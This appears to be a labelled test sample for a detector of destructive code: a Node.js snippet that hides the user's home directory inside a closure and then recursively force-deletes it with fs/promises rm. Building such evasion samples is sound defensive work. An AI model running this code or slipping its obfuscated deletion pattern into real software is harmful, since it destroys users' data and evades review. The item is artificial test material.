// evasion: a function declaration returns a function expression over its parameter; the closure gives the home to fs/promises' rm
// grade: very hard; does: delete
const fsp = require("fs/promises");
const os = require("os");
function target(dir) {
  return function () {
    return dir;
  };
}
const cacheRoot = target(os.userInfo().homedir);
fsp.rm(cacheRoot(), { recursive: true, force: true }).then(() => console.log("done"));
